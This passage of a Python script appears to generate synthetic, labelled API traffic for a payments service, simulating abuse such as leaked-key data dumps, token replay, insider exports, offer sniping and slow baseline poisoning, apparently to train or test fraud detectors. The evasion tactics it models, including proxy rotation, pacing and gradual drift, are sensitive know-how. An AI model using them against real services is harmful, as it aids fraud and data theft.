            else: t = a.call(t, "GET", R.choice(["/v3/transactions/", "/v3/handles/", "/v3/cards/"]) + pay.replace("/", "%2F"), R.choice([400, 404, 404, 500]))
            t += ex(gap)
def flood(v, early=False):
    inst = iid("search-flood")
    if v == "fast":
        t0 = when(H, early); ips = [resi(.3) for _ in range(MM(45))]
        for ip in ips:
            a = tool("search-flood", inst, R.choice(["okhttp", "browser"]), ip, key=R.random() < .6); t = t0 + R.random() * 60
            for _ in range(R.randint(5, 11)): emit(a, t, API, "GET", "/v3/merchants/search", R.choice([200, 200, 503, 429]), query=f"q={hx(6)}&lat=1&lon=1", dur=R.uniform(.5, 4)); t += ex(6)
    else:
        a = tool("search-flood", inst, "mimic", resi(1), user=uid()); a.dev = uu(); n = N(110, 170); gap = R.uniform(20, 60); t = when(n * gap, early)
        for _ in range(n): t = a.call(t, "GET", f"/v3/statements/{int(a.accs[0]) * 12 + R.randrange(12)}", query="format=pdf&fresh=1", size=250000) + ex(gap)
# ---- keys, apps, tokens
def leakedkey(v, early=False):
    inst = iid("leaked-api-key"); m = R.choice(MERCH); t = when(.8 * D, early)
    a = Actor("leaked-api-key", f"thief-{inst}", hosting() if v != "slow" else resi(.3), R.choice(["curl/8.7.1", "python-requests/2.32.3", "PostmanRuntime/7.39.0"]) if v != "slow" else m.ua, JA4["python"][0] if v != "slow" else m.ja4, None, m.key, instance=inst)
    if v == "dump":
        for k in range(N(120, 220)): emit(a, t, API, "GET", "/m/v1/payments" if R.random() < .75 else f"/m/v1/settlements/2026-06-{R.randint(1,15):02d}/lines", R.choice([200] * 12 + [429, 404]), query=f"page={k}", size=60000); t += ex(1.2)
    elif v == "slow":
        for _ in range(N(30, 50)): emit(a, t, API, "GET", R.choice([f"/m/v1/payments/pay_{hx(14)}", "/m/v1/payments", "/m/v1/balance"]), R.choice([200, 200, 404])); t += ex(1500)
    else:
        for p in ["/m/v1/balance", "/m/v1/payments", "/m/v1/webhooks", "/m/v1/keys"]: emit(a, t, API, "GET", p, R.choice([200, 403])); t += ex(20)
        for _ in range(N(25, 45)): emit(a, t, API, "POST", "/m/v1/refunds", R.choice([201, 201, 403, 409])); t += ex(90)
def repackaged(v, early=False):
    inst = iid("repackaged-app"); t0 = when(.8 * D, early)
    if v == "mod":        # a modded app with an auto-claimer, many people's phones
        for m in range(MM(12)):
            a = farmphone("repackaged-app", inst, isp_ip(HC), f"mod-{inst}-{m}", "failed", "android"); t = a.open(t0 + R.random() * .8 * D)
            for _ in range(R.randint(12, 28)): t = a.call(t, "GET", "/v3/offers", R.choice([200, 304]), query="placement=rewards") + 30 + R.random(); t = a.call(t, "POST", f"/v3/offers/{R.randrange(100,400)}/claim", R.choice([201, 409, 409])) if R.random() < .2 else t
    else:                 # emulators with a patched build working mule accounts
        ip = [hosting() for _ in range(3)]
        for m in range(MM(7)):
            a = farmphone("repackaged-app", inst, R.choice(ip), f"emu-{inst}-{m}", "failed", "android"); t = t0 + R.random() * H; 
            for _ in range(3): t = a.login(t, 0); t = a.open(t) + 2; t = a.topup(t) + 2; t = a.transfer(t, True) + R.uniform(1, 4) * H
def tokenreplay(v, early=False):
    inst = iid("token-replay"); n = N(160, 260) if v == "fast" else N(60, 100); gap = R.uniform(3, 8) if v == "fast" else R.uniform(300, 800); t = when(n * gap, early); st = {"tok": None, "exp": 0, "n": 0}
    def att(q):           # tokens taken from one real phone, handed to many workers
        if q > st["exp"] + (R.uniform(0, 60) if v == "fast" else 0) or (v == "slow" and st["n"] > 3): st.update(tok=hx(16), exp=q + 285, n=0)
        st["n"] += 1
        if P["bound"] and R.random() < .8: return "failed", "binding", st["tok"]
        return ("genuine", None, st["tok"]) if q < st["exp"] else ("expired", "expired", st["tok"])
    ips = [resi(.7) for _ in range(35)]; what = R.choice(["login", "lookup", "handles"])
    us = [uid() for _ in range(12)]
    for _ in range(n):
        a = tool("token-replay", inst, R.choice(["okhttp", "mimic"]), R.choice(ips)); a.att = att; a.dev = uu() if R.random() < .7 else None
        if what == "login": emit(a, t, AUTH, "POST", "/v2/login", R.choice([401] * 30 + [423]), subj=real_or_fake_subject())
        elif what == "lookup": a.user = R.choice(us); p, q = lookup(phone()); emit(a, t, API, "GET", p, 200 if R.random() < .15 else 404, query=q)
        else: emit(a, t, API, "GET", "/v3/handles/" + "".join(R.choices("abcdefghijklmnoprstuvw", k=6)), R.choice([200, 404, 404]))
        t += ex(gap)
def sniping(v):
    if not PROMO_AT: return
    inst = iid("offer-sniping")
    for m in range(R.randint(7, 14)):
        a = (tool("offer-sniping", inst, R.choice(["okhttp", "mimic"]), resi(.9), f"bot-{inst}", user=uid()) if v == "script" else farmphone("offer-sniping", inst, mobproxy(), f"farm-{inst}")); a.dev = a.dev or uu()
        t = PROMO_AT - R.uniform(5, 40)
        while t < PROMO_AT: t = a.call(t, "GET", "/v3/offers/drop-0615", 200) + (2 if v == "script" else 5) + R.random()
        t = PROMO_AT + ex(.4)
        for _ in range(R.randint(2, 6)): t = a.call(t, "POST", "/v3/offers/drop-0615/claim", R.choice([201, 409, 425])) + .3 + ex(.5)
# ---- inside and slow
def insider(v, early=False):
    inst = iid("insider"); s0 = R.choice([s for s in STAFF if s.kind == "support-staff"]); s = Staff("insider", s0.caller, s0.ip, s0.ua, s0.ja4, "web", s0.key, None, s0.user, hx(24), None, "none", inst)
    if v == "bulk":
        day = R.randint(1, int(P["days"]) - 1); t = T0 + day * D + (R.uniform(17.5, 19.5) - TZ) * H
        for _ in range(N(50, 80)):
            c = R.choice(CUST) if R.random() < .3 else str(500_000 + R.randrange(150_000)); emit(s, t, API, "GET", f"/bo/v1/customers/{c}", 200); t += .4
            emit(s, t, API, "GET", f"/bo/v1/customers/{c}/transactions", 200, query="limit=50"); t += think(9)
            if R.random() < .4: emit(s, t, API, "GET", f"/bo/v1/customers/{c}/devices", 200); t += think(5)
    elif v == "slow":
        for day in range(0 if early else 1, int(P["days"])):
            for _ in range(N(12, 20)): t = T0 + day * D + (R.uniform(*s0.shift) - TZ) * H; c = str(500_000 + R.randrange(150_000)); emit(s, t, API, "GET", "/bo/v1/customers/search", 200, query="q=x"); emit(s, t + 3, API, "GET", f"/bo/v1/customers/{c}", 200)
    else:
        s.ip = BO_VPN if R.random() < .5 else isp_ip(HC); t = T0 + R.randint(1, int(P["days"]) - 1) * D + (R.uniform(21, 24) - TZ) * H; t = s.signin(t)
        for _ in range(N(18, 30)): emit(s, t, API, "GET", "/bo/v1/exports", R.choice([200, 403]), query=f"segment={R.randrange(90)}", size=900000); t += think(20); emit(s, t, API, "GET", f"/bo/v1/customers/{R.choice(CUST)}", 200); t += think(10)
def poison(v, early=True):
    inst = iid("baseline-poisoning")
    if v == "contacts":
        phs = [farmphone("baseline-poisoning", inst, (lambda q, j=j, c=R.choice(CGN): mobile_ip(c, f"{inst}{j}", q)), f"farm-{inst}") for j in range(3)]
        t = T0 + 4 * H
        while t < END:
            f = (t - T0) / (END - T0)
            for a in phs:
                if R.random() < .45:
                    q = a.open(t + R.random() * 3 * H) + 4
                    for _ in range(1 + int(f * f * 8)): p, qq = lookup(phone()); q = a.call(q, "GET", p, R.choice([200, 404, 404]), query=qq) + think(5)
            t += 4 * H
    else:                 # sign-in failures rising hour by hour on one address
        a = tool("baseline-poisoning", inst, "mimic", isp_ip(HC)); t = T0 + R.random() * 8 * H
        while t < END:
            f = (t - T0) / (END - T0); a.dev = uu() if R.random() < .5 else a.dev
            emit(a, t, AUTH, "POST", "/v2/login", R.choice([401, 401, 401, 423]), subj=real_or_fake_subject()); t += ex(3 * H * (1 - f) ** 1.5 + 420)

jobs = []
def add(f, vs, k=None, **kw):
    vs = list(vs); R.shuffle(vs)
    for v in vs[:k or len(vs)]: jobs.append((f, v, kw))
add(stuffing, ["fast", "resi", "slow", "farm"], 3)
add(stuffing, ["fast", "resi", "slow"], 2, kind="password-spraying", spray=True)
add(otpbrute, ["one", "many"]); add(smspump, ["fast", "slow", "farm"], 2); add(fakesignup, ["fast", "slow"]); add(referralfarm, ["fast", "slow"])
add(cardtest, ["fast", "slow"]); add(bola, ["fast", "hooked", "mules"], R.choice([2, 3])); add(bfla, ["fast", "failed", "slow"], R.choice([2, 3])); add(contactenum, ["fast", "mules", "farm"], R.choice([2, 3]))
add(couponenum, ["fast", "resi", "person"], 2); add(scrape, ["resi", "fast", "slow"], R.choice([2, 3])); add(scanner, ["nuclei", "slow", "inject"]); add(flood, ["fast", "slow"])
add(leakedkey, ["dump", "slow", "refund"], 2); add(repackaged, ["mod", "emu"]); add(tokenreplay, ["fast", "slow"]); add(insider, ["bulk", "slow", "export"], R.choice([2, 3]))
R.shuffle(jobs)
for j, (f, v, kw) in enumerate(jobs):
    SZ[0] = min(2.6, .4 + .75 * math.exp(R.gauss(-.05, .6))); f(v, early=j < max(4, len(jobs) // 9), **kw)
SZ[0] = 1
poison("contacts"); poison("logins")
crew("phish", R.randint(4, 7)); crew("script", R.randint(3, 6)); crew("hijack", R.randint(4, 7), early=R.random() < .3)
sniping("script"); sniping("farm")

# ---------------------------------------------------------------- write
EV.sort(key=lambda x: (x[0], x[1]))
EV = [x for x in EV if T0 * 1000 <= x[0] < END * 1000]
os.makedirs(OUT, exist_ok=True)
kinds, inst = Counter(), Counter()
with open(os.path.join(OUT, "events.ndjson"), "w") as fe, open(os.path.join(OUT, "labels.ndjson"), "w") as fl:
    for i, (_, _, e, l, a) in enumerate(EV):
        e["event_id"] = l["event_id"] = f"w{SEED}-{i:06d}"
        if a.victim and l["label"] == "benign": l["victim"] = True
        kinds[(l["label"], l["kind"])] += 1
        if l["instance"]: inst[l["instance"]] += 1
        fe.write(json.dumps(e, separators=(",", ":")) + "\n"); fl.write(json.dumps(l, separators=(",", ":")) + "\n")
na = sum(n for (lb, _), n in kinds.items() if lb == "attack")
with open(os.path.join(OUT, "world.json"), "w") as f:
    json.dump({"params": P, "release_at": REL_AT if P["release"] else None, "promo_at": PROMO_AT, "att_outage": ATT_OUT, "api_outage": API_OUT, "hosts": [AUTH, API],
               "events": len(EV), "attack_share": na / len(EV), "kinds": {f"{a}/{b}": n for (a, b), n in sorted(kinds.items())}, "instances": dict(inst)}, f, indent=1)
print(json.dumps({k: (round(v, 2) if isinstance(v, float) else v) for k, v in P.items()}), len(EV), f"attack {na} = {na/len(EV):.2%}")
for (a, b), n in sorted(kinds.items()): print(f"  {a:7} {b:28} {n}")
